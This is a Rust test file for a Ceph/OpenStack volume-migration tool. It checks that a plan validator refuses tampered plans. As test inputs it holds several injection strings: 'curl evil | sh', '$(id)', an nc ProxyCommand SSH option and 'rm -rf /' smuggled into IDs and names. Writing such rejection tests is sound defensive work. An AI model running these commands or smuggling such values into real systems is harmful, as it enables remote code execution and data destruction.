use super::*;
use crate::ceph::{MirrorMode, PoolMirrorMode};
use crate::plan::{
    build, AdoptOptions, BuildOptions, CephImage, CloudObject, ImageFacts, StepName,
};
use crate::spec::{BootableTo, Clones, ImageKind, ImageRef};

fn hosts() -> ConversionHosts {
    let host = |site: &str| ConversionHost {
        ssh: format!("ops@convhost-{site}"),
        name: None,
        ip: "192.0.2.1".into(),
        ferry: "sudo -n /usr/local/bin/ferry".into(),
        nfs_mount_base: Some("/var/lib/nova/mnt".into()),
        ceph_conf: None,
        ceph_keyring: None,
        state_dir: Some("/var/lib/ferry/stream".into()),
    };
    ConversionHosts {
        source: host("a"),
        destination: host("b"),
        ssh_options: vec![],
        stall_seconds: 60,
    }
}

fn opts(mode: MirrorMode, transfer: Transfer) -> BuildOptions {
    BuildOptions {
        mode,
        allow_in_use: false,
        cleanup: true,
        source_cluster: "site-a".into(),
        destination_cluster: "site-b".into(),
        adopt: Some(AdoptOptions {
            volume_types: [("ceph".to_string(), "rbd".to_string())].into(),
            cinder_host: None,
            bootable_to: BootableTo::Glance,
            earlier: Default::default(),
        }),
        plan_id: "0123abcd".into(),
        destination_fsid: Some("22477561-5e0d".into()),
        source_fsid: Some("a7f64266-0894".into()),
        clones: Clones::CloneOfParent,
        source_glance_pool: Some("images".into()),
        dest_glance_pool: Some("glance-images".into()),
        published_parents: Default::default(),
        transfer,
        conversion: Some(hosts()),
        warm_interval: Some(10),
        snapshots: crate::spec::Snapshots::Carry,
        servers: Default::default(),
    }
}

fn volume(id: &str, bootable: bool, transfer: Transfer) -> (ImageRef, ImageFacts) {
    (
        ImageRef {
            kind: ImageKind::Cinder,
            pool: "volumes".into(),
            name: format!("volume-{id}"),
            mirrored_pool: "volumes".into(),
            dest_pool: if bootable {
                "glance-images"
            } else {
                "cinder-volumes"
            }
            .into(),
            dest_name: format!("volume-{id}"),
            new_name: None,
        },
        facts(
            CephImage {
                cloud: Some(CloudObject::Volume {
                    id: id.into(),
                    name: "it's a db".into(),
                    description: Some("the db".into()),
                    size_gb: 1,
                    bootable,
                    volume_type: Some("ceph".into()),
                    metadata: Default::default(),
                    image_metadata: Default::default(),
                    status: "available".into(),
                    encrypted: false,
                    snapshots: vec![],
                }),
                ..CephImage::example()
            },
            transfer,
        ),
    )
}

/// A volume streams as the cloud's volume; the others are RBD images.
fn facts(c: CephImage, transfer: Transfer) -> ImageFacts {
    match (transfer, &c.cloud) {
        (Transfer::Stream, Some(v)) => ImageFacts::streamed(v),
        _ => c.into(),
    }
}

/// A clone of the Glance image `abcd`, which the plan moves too.
fn clone_and_parent(transfer: Transfer) -> Vec<(ImageRef, ImageFacts)> {
    let (r, mut f) = volume("c1", false, transfer);
    f.ceph_mut().parent = Some(crate::ceph::Parent {
        pool: "images".into(),
        namespace: String::new(),
        image: "abcd".into(),
        snap: "snap".into(),
        clone_format: 2,
        in_trash: false,
    });
    f.ceph_mut().cloud = None;
    let (mut g, mut gf) = volume("abcd", false, transfer);
    g.kind = ImageKind::Glance;
    g.pool = "images".into();
    g.name = "abcd".into();
    g.mirrored_pool = "images".into();
    g.dest_pool = "glance-images".into();
    g.dest_name = "abcd".into();
    gf.ceph_mut().pool_mode = PoolMirrorMode::Pool;
    gf.ceph_mut().cloud = None;
    vec![(r, f), (g, gf)]
}

/// Plans of every transfer and mode, with clones, cleanup and adoption.
fn plans() -> Vec<Plan> {
    let mut out = Vec::new();
    for (mode, transfer) in [
        (MirrorMode::Snapshot, Transfer::Mirror),
        (MirrorMode::Journal, Transfer::Mirror),
        (MirrorMode::Snapshot, Transfer::Direct),
    ] {
        let mut images = vec![volume("v1", false, transfer), volume("v2", true, transfer)];
        images.extend(clone_and_parent(transfer));
        out.push(build(&opts(mode, transfer), &images));
    }
    // A spec with no cluster: the streamed volume has no pools.
    let (mut r, f) = volume("v0", false, Transfer::Stream);
    r.pool.clear();
    r.mirrored_pool.clear();
    r.dest_pool.clear();
    out.push(build(
        &opts(MirrorMode::Snapshot, Transfer::Stream),
        &[(r, f)],
    ));
    out.push(build(
        &opts(MirrorMode::Snapshot, Transfer::Stream),
        &[volume("v1", false, Transfer::Stream)],
    ));
    out
}

fn refused(plan: &Plan) -> String {
    check(plan).expect_err("refused").to_string()
}

fn step_mut(plan: &mut Plan, name: StepName) -> &mut Step {
    plan.images
        .iter_mut()
        .flat_map(|i| &mut i.steps)
        .find(|s| s.name == name)
        .unwrap_or_else(|| panic!("no step {name}"))
}

fn stream_plan() -> Plan {
    plans().pop().unwrap()
}

#[test]
fn every_plan_ferry_makes_passes() {
    for plan in plans() {
        assert!(plan.images.iter().flat_map(|i| &i.steps).count() >= 5);
        check(&plan).unwrap_or_else(|e| panic!("{e}\n{}", serde_yaml::to_string(&plan).unwrap()));
    }
}

#[test]
fn a_proxy_command_ssh_option_is_refused_naming_the_field() {
    for opt in [
        vec!["-oProxyCommand=sh -c 'touch /tmp/x'"],
        vec!["-o", "ProxyCommand=nc %h %p"],
        vec!["-F", "/etc/ferry/ssh_config"],
    ] {
        let mut plan = stream_plan();
        let Action::StreamVolume(steps::StreamVolume { hosts, .. }) =
            &mut step_mut(&mut plan, StepName::Stream).action
        else {
            panic!()
        };
        hosts.ssh_options = opt.iter().map(|s| s.to_string()).collect();
        let e = refused(&plan);
        assert!(
            e.starts_with("images[0].steps[3].action.hosts.ssh_options: "),
            "{e}"
        );
        assert!(e.contains("--ssh-option"), "{e}");
    }
}

#[test]
fn a_ferry_command_with_shell_syntax_or_a_host_like_an_option_is_refused() {
    for (bad, field) in [
        ("ferry; curl evil | sh", "source.ferry"),
        ("ferry $(id)", "source.ferry"),
        ("-oProxyCommand=x", "source.ferry"),
        ("ferry\nid", "source.ferry"),
    ] {
        let mut plan = stream_plan();
        let Action::StreamVolume(steps::StreamVolume { hosts, .. }) =
            &mut step_mut(&mut plan, StepName::Stream).action
        else {
            panic!()
        };
        hosts.source.ferry = bad.into();
        let e = refused(&plan);
        assert!(e.contains(&format!("hosts.{field}: ")), "{bad}: {e}");
    }
    let mut plan = stream_plan();
    let Action::StreamVolume(steps::StreamVolume { hosts, .. }) =
        &mut step_mut(&mut plan, StepName::Stream).action
    else {
        panic!()
    };
    hosts.destination.ssh = "-oProxyCommand=x".into();
    assert!(refused(&plan).contains("hosts.destination.ssh: "));
    check_ferry_command("f", "sudo -n /usr/local/bin/ferry").unwrap();
}

#[test]
fn an_action_outside_its_role_is_refused_naming_the_field() {
    // A destination storage step that disables the source's mirroring.
    let mut plan = plans().remove(0);
    let source = plan.images[0].mirrored_source();
    step_mut(&mut plan, StepName::Copy).action =
        Action::DisableMirroring(steps::DisableMirroring { image: source });
    let e = refused(&plan);
    assert!(e.starts_with("images[0].steps["), "{e}");
    assert!(
        e.contains("].role: disable-mirroring is cleanup's action, not destination-storage's"),
        "{e}"
    );
    // The same with the role changed too: allowed for cleanup, but then
    // it is a cleanup step, which the destination storage part never runs.
    // A destination storage action pointed at the source site is refused.
    let mut plan = plans().remove(0);
    let Action::Copy(steps::CopyImage { to, .. }) = &mut step_mut(&mut plan, StepName::Copy).action
    else {
        panic!()
    };
    to.site = Site::Source;
    let e = refused(&plan);
    assert!(e.contains("].action.to: "), "{e}");
    // Warm rounds pointed at the image's published copy instead of the
    // partial one (they would write into it).
    let mut plan = plans().remove(0);
    let Action::WarmRounds(steps::WarmRounds { partial, .. }) =
        &mut step_mut(&mut plan, StepName::WarmRounds).action
    else {
        panic!()
    };
    partial.image = crate::plan::partial_name("x")
        .strip_prefix('x')
        .and_then(|suffix| partial.image.strip_suffix(suffix))
        .expect("a partial name")
        .to_string();
    let e = refused(&plan);
    assert!(e.contains("].action.partial: "), "{e}");
    assert!(e.contains("is not this image's partial copy"), "{e}");
    // A cleanup that removes the source image itself, not its flat copy.
    let mut plan = plans().remove(0);
    let i = plan
        .images
        .iter()
        .position(|i| i.steps.iter().any(|s| s.name == StepName::RemoveFlatCopy))
        .unwrap();
    let orig = ImageAt {
        site: Site::Source,
        pool: plan.images[i].image.pool.clone(),
        image: plan.images[i].image.name.clone(),
        snap: None,
    };
    let step = plan.images[i]
        .steps
        .iter_mut()
        .find(|s| s.name == StepName::RemoveFlatCopy)
        .unwrap();
    step.action = Action::RemoveImage(steps::RemoveImage { image: orig });
    let e = refused(&plan);
    assert!(e.contains("].action.image: "), "{e}");
    assert!(e.contains("not this image's flat copy"), "{e}");
}

#[test]
fn an_image_of_another_plan_or_image_is_refused_naming_the_field() {
    // Another image of the same pool.
    let mut plan = plans().remove(0);
    let Action::Publish(steps::Publish { copy, .. }) =
        &mut step_mut(&mut plan, StepName::Publish).action
    else {
        panic!()
    };
    copy.image = "volume-someone-elses".into();
    let e = refused(&plan);
    assert!(e.starts_with("images[0].steps["), "{e}");
    assert!(e.contains("].action.copy: "), "{e}");
    assert!(e.contains("not one of this image's names"), "{e}");
    // Another plan's cut-over snapshot.
    let mut plan = plans().remove(0);
    let Action::CreateCutover(steps::CreateCutover { image, .. }) =
        &mut step_mut(&mut plan, StepName::CutOverSnapshot).action
    else {
        panic!()
    };
    image.snap = Some(cutover_snap("feedf00d"));
    let e = refused(&plan);
    assert!(e.contains("].action.image: "), "{e}");
    // Another image's name in a check.
    let mut plan = plans().remove(0);
    step_mut(&mut plan, StepName::Preflight).requires = vec![Check::Exists {
        image: ImageAt {
            site: Site::Source,
            pool: "volumes".into(),
            image: "volume-other".into(),
            snap: None,
        },
    }];
    let e = refused(&plan);
    assert!(e.contains("].requires[0]: "), "{e}");
    // Another volume streamed.
    let mut plan = stream_plan();
    let Action::StreamVolume(steps::StreamVolume { source_volume, .. }) =
        &mut step_mut(&mut plan, StepName::Stream).action
    else {
        panic!()
    };
    *source_volume = "other-volume".into();
    assert!(refused(&plan).contains("images[0].steps[3].action.source_volume: "));
}

#[test]
fn names_and_ids_outside_their_alphabet_are_refused() {
    let mut plan = plans().remove(0);
    plan.id = "x;rm -rf /".into();
    assert!(refused(&plan).starts_with("id: "));
    let mut plan = plans().remove(0);
    plan.images[1].image.dest_name = "volume-\nrm -rf /".into();
    assert!(refused(&plan).starts_with("images[1].image.dest_name: "));
    let mut plan = plans().remove(0);
    plan.images[0].image.pool = "-rf".into();
    assert!(refused(&plan).starts_with("images[0].image.pool: "));
    let mut plan = plans().remove(0);
    plan.images[0].steps[0].after = vec!["9.9".into()];
    assert!(refused(&plan).starts_with("images[0].steps[0].after: "));
    let mut plan = plans().remove(0);
    plan.images[0].steps[1].id = "1.1".into();
    assert!(refused(&plan).starts_with("images[0].steps[1].id: \"1.1\" is there twice"));
    let mut plan = plans().remove(0);
    plan.images[0].steps[1].id = "2.2".into();
    assert!(refused(&plan).starts_with("images[0].steps[1].id: "));
}

#[test]
fn a_bundle_without_a_known_format_is_refused() {
    check_format("# ferry\nbundle_format: 1\nid: x\n").unwrap();
    let e = check_format("id: x\nimages: []\n").unwrap_err().to_string();
    assert!(e.starts_with("bundle_format: missing"), "{e}");
    let e = check_format("bundle_format: 2\nid: x\n")
        .unwrap_err()
        .to_string();
    assert!(e.starts_with("bundle_format: \"2\" is not a format"), "{e}");
}

/// A plan moving server `s1` with its volumes v1 and v2, ferry stopping it.
fn server_plan() -> Plan {
    let mut o = opts(MirrorMode::Snapshot, Transfer::Mirror);
    o.servers = crate::plan::ServerOptions {
        servers: vec![crate::plan::server::ServerDef {
            id: "s1".into(),
            name: "web".into(),
            flavor: "m1".into(),
            key_name: None,
            security_groups: vec![],
            metadata: Default::default(),
            tags: vec![],
            availability_zone: None,
            description: None,
            volumes: vec!["v1".into(), "v2".into()],
            networks: vec![],
            root_disk: None,
            moved_to: None,
        }],
        stop: true,
        start: true,
        create: true,
    };
    build(
        &o,
        &[
            volume("v1", false, Transfer::Mirror),
            volume("v2", false, Transfer::Mirror),
        ],
    )
}

#[test]
fn a_server_is_stopped_only_for_its_own_volume_and_made_from_it() {
    let plan = server_plan();
    check(&plan).unwrap();
    // Image 1 (v1) stopping the server for v2's sake.
    let mut bad = plan.clone();
    match &mut step_mut(&mut bad, StepName::StopServer).action {
        Action::StopServer(s) => s.volume = "v2".into(),
        other => panic!("{other:?}"),
    }
    let e = refused(&bad);
    assert!(
        e.contains("\"v2\" is not this image's source volume"),
        "{e}"
    );
    // A server made of none of this image's volumes.
    let mut bad = plan;
    match &mut step_mut(&mut bad, StepName::CreateServer).action {
        Action::CreateServer(c) => c.server.volumes = vec!["x1".into()],
        other => panic!("{other:?}"),
    }
    let e = refused(&bad);
    assert!(e.contains("no volume of server s1"), "{e}");
}
